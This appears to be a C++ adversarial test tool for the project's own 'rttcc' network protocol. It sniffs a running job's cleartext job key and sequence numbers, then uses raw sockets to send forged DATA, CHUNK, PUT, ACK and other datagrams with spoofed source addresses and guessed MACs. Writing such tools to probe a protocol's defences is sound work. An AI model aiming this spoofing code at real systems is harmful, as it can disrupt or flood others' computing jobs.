// spoof: forges rttcc datagrams at a running job, as an attacker on the
// network would.  Raw IPv4 sockets put any source address and port on them
// (the victim's peer's, so a source check passes); the header is rttcc's
// own (wire_format.h), with a guessed job key or the real one, read off a
// datagram of the job (sniff: what an attacker on the path sees, sequence
// numbers included), and a MAC that is guessed: the secret never leaves the
// job's modex.
//
//   spoof -to IP:PORT[,PORT] -from IP:PORT[,PORT] -src RANK -job-key sniff|guess|K
//         [-count N] [-seed S]
//
// Every combination of -to and -from ports gets N datagrams of each kind:
// DATA (the next sequence numbers: sniffed, or guessed), CHUNK of a 1 MiB message
// (would take a reassembly buffer), PUT to guessed region keys, ACK of
// everything, SACK of 64 segments, PROBE, PROBE_REPLY and BUSY.  Prints how
// many it sent.  Needs root (raw sockets).
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <vector>

#include "engine/regions.h"
#include "engine/wire_format.h"

using namespace rttcc;

namespace {

struct Endpoint {
    in_addr_t ip;
    std::vector<uint16_t> ports;  // network order
};

Endpoint parse_endpoint(const char *text) {
    Endpoint e{};
    std::string s(text);
    const size_t colon = s.find(':');
    if (colon == std::string::npos || inet_pton(AF_INET, s.substr(0, colon).c_str(), &e.ip) != 1) {
        std::fprintf(stderr, "spoof: bad endpoint %s (IP:PORT[,PORT])\n", text);
        std::exit(2);
    }
    for (size_t at = colon + 1; at < s.size();) {
        size_t end = s.find(',', at);
        if (end == std::string::npos) end = s.size();
        e.ports.push_back(htons(static_cast<uint16_t>(std::stoul(s.substr(at, end - at)))));
        at = end + 1;
    }
    return e;
}

class Forger {
public:
    Forger(const Endpoint &from, uint32_t src, uint32_t job_key, uint64_t seed)
        : from_(from), src_(src), job_key_(job_key), rng_(seed) {
        fd_ = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
        if (fd_ < 0) {
            std::perror("spoof: raw socket (needs root)");
            std::exit(2);
        }
    }
    ~Forger() { close(fd_); }

    // One datagram from (from.ip, from_port) to (to.ip, to_port).
    bool send(in_addr_t to_ip, uint16_t to_port, uint16_t from_port, const PacketHeader &h,
              const std::vector<uint8_t> &payload) {
        std::vector<uint8_t> pkt(sizeof(iphdr) + sizeof(udphdr) + sizeof h + payload.size());
        auto *ip = reinterpret_cast<iphdr *>(pkt.data());
        auto *udp = reinterpret_cast<udphdr *>(pkt.data() + sizeof(iphdr));
        ip->version = 4;
        ip->ihl = 5;
        ip->ttl = 64;
        ip->protocol = IPPROTO_UDP;
        ip->tot_len = htons(static_cast<uint16_t>(pkt.size()));
        ip->saddr = from_.ip;
        ip->daddr = to_ip;  // the kernel fills id and checksum
        udp->source = from_port;
        udp->dest = to_port;
        udp->len = htons(static_cast<uint16_t>(pkt.size() - sizeof(iphdr)));
        udp->check = 0;  // none (IPv4 allows it)
        std::memcpy(pkt.data() + sizeof(iphdr) + sizeof(udphdr), &h, sizeof h);
        if (!payload.empty()) std::memcpy(pkt.data() + sizeof(iphdr) + sizeof(udphdr) + sizeof h, payload.data(), payload.size());
        sockaddr_in sa{};
        sa.sin_family = AF_INET;
        sa.sin_addr.s_addr = to_ip;
        return sendto(fd_, pkt.data(), pkt.size(), 0, reinterpret_cast<sockaddr *>(&sa), sizeof sa) ==
               static_cast<ssize_t>(pkt.size());
    }

    PacketHeader header(PacketType t, uint16_t payload) {
        PacketHeader h{};
        h.magic = kMagic;
        h.version = kVersion;
        h.type = static_cast<uint8_t>(t);
        h.job_key = job_key_;
        h.src = src_;
        h.payload_len = payload;
        h.tx_id = static_cast<uint32_t>(rng_()) | 1;
        h.mac = rng_();  // a guess
        return h;
    }

    void set_base(seq_t base) { base_ = base, have_base_ = true; }

    // The datagrams of one round, every kind.
    std::vector<std::pair<PacketHeader, std::vector<uint8_t>>> round(uint32_t n) {
        std::vector<std::pair<PacketHeader, std::vector<uint8_t>>> out;
        const seq_t base = have_base_ ? base_ : static_cast<seq_t>(rng_());
        std::vector<uint8_t> junk(64, 0x5a);
        PacketHeader h = header(PacketType::DATA, 64);
        h.seq = base + n;
        out.push_back({h, junk});
        h = header(PacketType::CHUNK, 64);
        h.seq = base + n;
        h.msg_id = static_cast<uint32_t>(rng_());
        h.msg_len = 1u << 20;
        h.chunk_offset = 0;
        out.push_back({h, junk});
        h = header(PacketType::PUT, 64);
        h.seq = base + n;
        h.msg_id = static_cast<uint32_t>(rng_());
        h.msg_len = 64;
        h.put_addr = put_addr((static_cast<uint32_t>(rng_()) & kPutKeyMask) | 1, 0);
        out.push_back({h, junk});
        h = header(PacketType::ACK, 0);
        h.flags = kFlagAckValid;
        h.ack = base + n;
        out.push_back({h, {}});
        h = header(PacketType::ACK, 8);
        h.flags = kFlagAckValid;
        h.ack = base + n;
        out.push_back({h, std::vector<uint8_t>(8, 0xff)});
        h = header(PacketType::PROBE, 0);
        h.seq = static_cast<uint32_t>(rng_());
        out.push_back({h, {}});
        h = header(PacketType::PROBE_REPLY, 0);
        h.seq = static_cast<uint32_t>(rng_());
        out.push_back({h, {}});
        h = header(PacketType::BUSY, 0);
        h.flags = kFlagAckValid;
        h.ack = base + n;
        out.push_back({h, {}});
        return out;
    }

private:
    Endpoint from_;
    uint32_t src_;
    uint32_t job_key_;
    std::mt19937_64 rng_;
    int fd_;
    seq_t base_ = 0;         // where forged sequence numbers start, when sniffed
    bool have_base_ = false;
};

// Waits (up to 10 s) for a datagram of the job from `from` to `to` and reads
// its header: the job key and the sequence numbers in use travel in clear.
bool sniff(const Endpoint &from, const Endpoint &to, PacketHeader *out) {
    const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
    if (fd < 0) return false;
    timeval tv{1, 0};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    std::vector<uint8_t> buf(70000);
    bool found = false;
    for (int tries = 0; tries < 200000 && !found; ++tries) {
        const ssize_t n = recv(fd, buf.data(), buf.size(), 0);
        if (n < 0) {
            if (tries > 10) break;  // ten quiet seconds
            continue;
        }
        const auto *ip = reinterpret_cast<const iphdr *>(buf.data());
        const size_t off = ip->ihl * 4u + sizeof(udphdr);
        if (static_cast<size_t>(n) < off + sizeof(PacketHeader) || ip->saddr != from.ip) continue;
        const auto *udp = reinterpret_cast<const udphdr *>(buf.data() + ip->ihl * 4u);
        bool ours = false;
        for (uint16_t p : to.ports) ours |= udp->dest == p;
        PacketHeader h;
        std::memcpy(&h, buf.data() + off, sizeof h);
        if (!ours || h.magic != kMagic || h.type != static_cast<uint8_t>(PacketType::DATA)) continue;
        *out = h;
        found = true;
    }
    close(fd);
    return found;
}

}  // namespace

int main(int argc, char **argv) {
    Endpoint to{}, from{};
    uint32_t src = 0, count = 1000, job_key = 0;
    uint64_t seed = 1;
    bool guess = false, sniffed = false, have_to = false, have_from = false;
    for (int i = 1; i + 1 < argc; i += 2) {
        const std::string a = argv[i];
        if (a == "-to") to = parse_endpoint(argv[i + 1]), have_to = true;
        else if (a == "-from") from = parse_endpoint(argv[i + 1]), have_from = true;
        else if (a == "-src") src = static_cast<uint32_t>(std::strtoul(argv[i + 1], nullptr, 0));
        else if (a == "-count") count = static_cast<uint32_t>(std::strtoul(argv[i + 1], nullptr, 0));
        else if (a == "-seed") seed = std::strtoull(argv[i + 1], nullptr, 0);
        else if (a == "-job-key") {
            guess = std::string(argv[i + 1]) == "guess";
            sniffed = std::string(argv[i + 1]) == "sniff";
            job_key = static_cast<uint32_t>(std::strtoul(argv[i + 1], nullptr, 0));
        }
    }
    if (!have_to || !have_from) {
        std::fprintf(stderr, "usage: spoof -to IP:PORT[,PORT] -from IP:PORT[,PORT] -src RANK -job-key K|guess [-count N]\n");
        return 2;
    }
    if (guess) job_key = static_cast<uint32_t>(std::mt19937(static_cast<uint32_t>(seed))());
    PacketHeader seen{};
    if (sniffed) {
        if (!sniff(from, to, &seen)) {
            std::fprintf(stderr, "spoof: saw no datagram of the job to sniff\n");
            return 2;
        }
        job_key = seen.job_key;
        src = seen.src;
    }
    Forger f(from, src, job_key, seed);
    if (sniffed) f.set_base(seen.seq + 1);
    uint64_t sent = 0, failed = 0;
    for (uint32_t n = 0; n < count; ++n)
        for (const auto &dg : f.round(n))
            for (uint16_t tp : to.ports)
                for (uint16_t fp : from.ports) (f.send(to.ip, tp, fp, dg.first, dg.second) ? sent : failed)++;
    std::printf("spoof: sent %llu forged datagrams (%llu failed), job key %#x%s\n", (unsigned long long) sent,
                (unsigned long long) failed, job_key, guess ? " (guessed)" : sniffed ? " (sniffed)" : "");
    return failed ? 1 : 0;
}
